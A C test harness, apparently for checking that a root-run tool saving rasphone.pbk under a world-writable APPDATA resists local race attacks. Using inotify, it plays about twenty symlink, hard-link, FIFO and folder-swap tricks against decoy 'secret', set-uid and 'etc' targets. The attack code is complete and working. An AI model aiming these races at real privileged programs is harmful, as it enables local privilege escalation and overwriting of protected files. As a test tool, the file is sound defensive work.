// race-attacker APPDATA DECOY: a local user's attack on a tool that root runs with APPDATA
// in a folder everybody may write to. It owns Microsoft\Network\Connections\Pbk below
// APPDATA, keeps a phonebook of its own there (rewritten each round so that every run
// saves), watches the folder with inotify and swaps links, files and folders while the
// run reads and saves. Links lead into DECOY: "secret" (root's, 0600), "setuid" (root's,
// set-uid) and the folder "etc".
//
// Driven over standard input, one line each:
//   go N    sets up round N (trick N modulo the count), answers "ready NAME"
//   stop    ends the round, answers "idle FIRED" (1 when the trick was played)
// At the end of input it prints "saves SEEN" (temporary files seen created) and exits.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static const char* kLevels[] = {"Microsoft", "Network", "Connections", "Pbk"};
enum { kLevelCount = 4 };

// The attacker's phonebook: not in canonical form (LF ends, a comment, blanks around '='),
// so that every run rewrites it; large, so that the save takes a while.
static const char kHead[] =
    "; the attacker's own\n[Office]\nPhoneNumber = vpn1.example.com\n[ATTACKER-TEXT]\nk=v\n";

static char appdata[PATH_MAX];
static char decoy[PATH_MAX];
static char level[kLevelCount][PATH_MAX];
static char phonebook[PATH_MAX];
static unsigned serial;  // for unique names
static int notify = -1;
static unsigned long saves;

static void Path(char* out, const char* format, ...) {
  va_list args;
  va_start(args, format);
  vsnprintf(out, PATH_MAX, format, args);
  va_end(args);
}

// A fresh name in `folder` for a file to be renamed into place.
static void Scratch(char* out, const char* folder) {
  Path(out, "%s/scratch.%u.%u", folder, (unsigned)getpid(), ++serial);
}

static void WriteOwn(const char* path, const char* text, int large) {
  char scratch[PATH_MAX];
  Scratch(scratch, level[3]);
  FILE* file = fopen(scratch, "w");
  if (file == NULL) return;
  fputs(text, file);
  for (int i = 0; large && i < 2000; ++i) {
    fprintf(file, "[pad%d]\nPhoneNumber=pad%d.example.org\nDevice=WAN Miniport (SSTP)\n", i, i);
  }
  fclose(file);
  rename(scratch, path);
}

// Puts a new link, FIFO, hard link or file at `path` in one step.
static int SymlinkOver(const char* target, const char* path) {
  char scratch[PATH_MAX];
  Scratch(scratch, appdata);
  if (symlink(target, scratch) != 0) return -1;
  if (rename(scratch, path) != 0) return unlink(scratch), -1;
  return 0;
}

static int HardlinkOver(const char* target, const char* path, const char* folder) {
  char scratch[PATH_MAX];
  Scratch(scratch, folder);
  if (link(target, scratch) != 0) return -1;
  if (rename(scratch, path) != 0) return unlink(scratch), -1;
  return 0;
}

static int FifoOver(const char* path) {
  char scratch[PATH_MAX];
  Scratch(scratch, level[3]);
  if (mkfifo(scratch, 0666) != 0) return -1;
  return rename(scratch, path);
}

// Moves folder level `i` away and leaves a link to DECOY/etc in its place.
static int FolderToLink(int i) {
  char moved[PATH_MAX];
  char etc[PATH_MAX];
  Path(moved, "%s.old.%u", level[i], ++serial);
  Path(etc, "%s/etc", decoy);
  if (rename(level[i], moved) != 0) return -1;
  return symlink(etc, level[i]);
}

static void Unlink(const char* path) {
  if (unlink(path) != 0 && errno == EISDIR) rmdir(path);
}

// The attacker's layout again: its own folders, its own phonebook, nothing else in Pbk.
// A file of root's found there is kept aside in APPDATA, to be swapped in later.
static void Restore(void) {
  struct stat info;
  for (int i = 0; i < kLevelCount; ++i) {
    if (lstat(level[i], &info) == 0 && !(S_ISDIR(info.st_mode) && info.st_uid == getuid())) {
      char moved[PATH_MAX];
      Path(moved, "%s.old.%u", level[i], ++serial);
      if (S_ISLNK(info.st_mode) || rename(level[i], moved) != 0) Unlink(level[i]);
    }
    mkdir(level[i], 0755);
  }
  char stash[PATH_MAX];
  Path(stash, "%s/stash", appdata);
  if (lstat(phonebook, &info) == 0 && S_ISREG(info.st_mode) && info.st_uid == 0) {
    rename(phonebook, stash);
  }
  DIR* dir = opendir(level[3]);
  if (dir != NULL) {
    for (struct dirent* entry; (entry = readdir(dir)) != NULL;) {
      if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
      char path[PATH_MAX];
      Path(path, "%s/%s", level[3], entry->d_name);
      Unlink(path);
    }
    closedir(dir);
  }
  WriteOwn(phonebook, kHead, 1);
}

enum When { kBefore, kOnRead, kOnTemp, kNever };

struct Trick {
  const char* name;
  enum When when;
};

static const struct Trick kTricks[] = {
    {"none", kNever},
    {"phonebook becomes a link to the secret as the save starts", kOnTemp},
    {"phonebook becomes a link to the set-uid file as the save starts", kOnTemp},
    {"temporary name becomes a link to the set-uid file", kOnTemp},
    {"temporary name becomes the attacker's file", kOnTemp},
    {"phonebook becomes a hard link to the secret as the save starts", kOnTemp},
    {"Pbk becomes a link to etc as the save starts", kOnTemp},
    {"Connections becomes a link to etc as the save starts", kOnTemp},
    {"Microsoft becomes a link to etc as the save starts", kOnTemp},
    {"phonebook becomes a FIFO as the save starts", kOnTemp},
    {"phonebook removed as the save starts", kOnTemp},
    {"temporary file moved away", kOnTemp},
    {"phonebook becomes a hard link to the temporary file", kOnTemp},
    {"phonebook becomes a link to the secret after the read", kOnRead},
    {"phonebook becomes root's own file after the read", kOnRead},
    {"no phonebook", kBefore},
    {"phonebook is a link to the set-uid file", kBefore},
    {"Microsoft is a link to etc", kBefore},
    {"Pbk is a link to etc", kBefore},
    {"phonebook is a FIFO", kBefore},
    {"phonebook is a hard link to the secret", kBefore},
};
enum { kTrickCount = sizeof kTricks / sizeof kTricks[0] };

// Plays trick `n`; `temp` names the temporary file for the tricks that need it.
static void Play(int n, const char* temp) {
  char target[PATH_MAX];
  char moved[PATH_MAX];
  switch (n) {
    case 1:
    case 13:
      Path(target, "%s/secret", decoy);
      SymlinkOver(target, phonebook);
      break;
    case 2:
    case 16:
      Path(target, "%s/setuid", decoy);
      SymlinkOver(target, phonebook);
      break;
    case 3:
      Path(target, "%s/setuid", decoy);
      SymlinkOver(target, temp);
      break;
    case 4:
      Scratch(target, level[3]);
      WriteOwn(target, "[mine]\n", 0);
      rename(target, temp);
      break;
    case 5:
    case 20:
      Path(target, "%s/secret", decoy);
      // Refused where hard links are protected; the phonebook then stays the attacker's.
      HardlinkOver(target, phonebook, level[3]);
      break;
    case 6:
    case 18:
      FolderToLink(3);
      break;
    case 7:
      FolderToLink(2);
      break;
    case 8:
    case 17:
      FolderToLink(0);
      break;
    case 9:
    case 19:
      FifoOver(phonebook);
      break;
    case 10:
    case 15:
      unlink(phonebook);
      break;
    case 11:
      Path(moved, "%s/stolen.%u", level[2], ++serial);
      rename(temp, moved);
      break;
    case 12:
      HardlinkOver(temp, phonebook, level[3]);
      break;
    case 14:
      Path(target, "%s/stash", appdata);
      rename(target, phonebook);
      break;
    default:
      break;
  }
}

// Reads the events waiting; plays the round's trick on the first that calls for it.
static void Drain(int n, int* fired, int* reads) {
  char buffer[16384] __attribute__((aligned(__alignof__(struct inotify_event))));
  const ssize_t got = read(notify, buffer, sizeof buffer);
  for (ssize_t at = 0; at < got;) {
    const struct inotify_event* event = (const struct inotify_event*)(buffer + at);
    at += (ssize_t)(sizeof *event + event->len);
    if (event->len == 0) continue;
    const int isTemp = (event->mask & IN_CREATE) && strncmp(event->name, ".~lw", 4) == 0;
    if (isTemp) ++saves;
    // The run reads the phonebook twice: in its check, then in its pass before the save.
    if ((event->mask & IN_CLOSE_NOWRITE) && strcmp(event->name, "rasphone.pbk") == 0) ++*reads;
    if (*fired) continue;
    if ((kTricks[n].when == kOnTemp && isTemp) || (kTricks[n].when == kOnRead && *reads == 2)) {
      char temp[PATH_MAX];
      Path(temp, "%s/%s", level[3], event->name);
      Play(n, temp);
      *fired = 1;
    }
  }
}

int main(int argc, char** argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: race-attacker APPDATA DECOY\n");
    return 2;
  }
  snprintf(appdata, sizeof appdata, "%s", argv[1]);
  snprintf(decoy, sizeof decoy, "%s", argv[2]);
  Path(level[0], "%s/%s", appdata, kLevels[0]);
  for (int i = 1; i < kLevelCount; ++i) Path(level[i], "%s/%s", level[i - 1], kLevels[i]);
  Path(phonebook, "%s/rasphone.pbk", level[3]);
  notify = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  if (notify < 0) return 1;
  setvbuf(stdout, NULL, _IOLBF, 0);

  char line[64];
  int n = 0;
  int fired = 0;
  int reads = 0;
  int watching = 0;
  int watch = -1;
  for (;;) {
    struct pollfd fds[2] = {{0, POLLIN, 0}, {notify, POLLIN, 0}};
    if (poll(fds, watching ? 2 : 1, -1) < 0 && errno != EINTR) return 1;
    if (watching && (fds[1].revents & POLLIN)) Drain(n, &fired, &reads);
    if (!(fds[0].revents & (POLLIN | POLLHUP))) continue;
    if (fgets(line, sizeof line, stdin) == NULL) break;
    if (strncmp(line, "go ", 3) == 0) {
      n = atoi(line + 3) % kTrickCount;
      Restore();
      // A watch on this round's Pbk only; the events of the set-up itself are dropped.
      if (watch >= 0) inotify_rm_watch(notify, watch);
      watch = inotify_add_watch(notify, level[3], IN_CREATE | IN_CLOSE_NOWRITE);
      fired = kTricks[n].when == kBefore;
      if (fired) Play(n, NULL);
      int ignored = 0;
      Drain(0, &ignored, &reads);
      reads = 0;
      watching = watch >= 0;
      printf("ready %s\n", kTricks[n].name);
    } else if (strncmp(line, "stop", 4) == 0) {
      while (watching) {
        struct pollfd more = {notify, POLLIN, 0};
        if (poll(&more, 1, 0) <= 0) break;
        Drain(n, &fired, &reads);
      }
      watching = 0;
      printf("idle %d\n", fired);
    }
  }
  printf("saves %lu\n", saves);
  return 0;
}
